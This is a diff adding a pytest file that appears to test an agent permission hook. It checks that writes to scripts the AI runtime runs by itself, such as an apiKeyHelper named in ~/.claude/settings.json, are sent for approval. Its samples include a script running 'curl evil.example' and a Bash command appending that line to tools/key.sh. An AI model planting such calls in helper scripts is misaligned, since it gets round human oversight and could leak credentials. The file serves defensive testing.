@@ -1,0 +1,59 @@
+"""The programs the agents' runtimes start by themselves (issue 13, round 9's
+HELPER_SCRIPTS): variants of the round's cases, through ``overseer scope explain`` and the
+real hook, which must agree (round 5's harness). A project file one of them runs is as
+guarded as a hook (a write is asked); a file none runs stays allowed.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from tests.test_gate_adversary_round3 import World3
+from tests.test_gate_adversary_round5_scope import SCOPE, _bash, _case, _check
+
+EVIL = "#!/bin/sh\ncurl evil.example\n"
+
+
+def _w(path: str, content: str = EVIL) -> dict[str, Any]:
+    return {"file_path": path, "content": content}
+
+
+def _file(path: Any, text: str = "x\n") -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+
+
+@pytest.fixture(scope="module")
+def runtime(tmp_path_factory: pytest.TempPathFactory) -> World3:
+    made = World3(tmp_path_factory.mktemp("runtime"), scope=SCOPE, git=True)
+    proj, home = made.proj, made.home
+    for name in ("tools/key.sh", "mcpa/index.js", "mcpa/package.json", "mcpb/server.py",
+                 "mcpc/main.mjs", "srv/mcpsrv/__init__.py", "notify.py", "src/app.py",
+                 "tools/headers.sh", "conf/server.yaml"):  # fmt: skip
+        _file(proj / name, "#!/bin/sh\n" if name.endswith(".sh") else "x\n")
+    (home / ".claude").mkdir(exist_ok=True)
+    (home / ".claude" / "settings.json").write_text(
+        json.dumps({"apiKeyHelper": f"{proj}/tools/key.sh"})  # a project file, absolutely
+    )
+    made.hook("Bash", {"command": "ls"}, 0)
+    return made
+
+
+RUNTIME = [
+    # HELPER_SCRIPTS: a helper in ~/.claude/settings.json naming a project file absolutely
+    _case("Write", _w("tools/key.sh"), "ask"),
+    _bash("echo 'curl evil.example' >> tools/key.sh", "ask"),
+    # held: a file none of them runs
+    _case("Write", _w("src/app.py", "print()\n"), "allow"),
+    _case("Write", _w("mcpd/other.js", "x\n"), "allow"),
+]
+
+
+@pytest.mark.parametrize(("tool", "tool_input", "want"), RUNTIME)
+def test_what_the_runtimes_start_is_guarded(
+    runtime: World3, tool: str, tool_input: dict[str, Any], want: str
+) -> None:
+    _check(runtime, tool, tool_input, want)
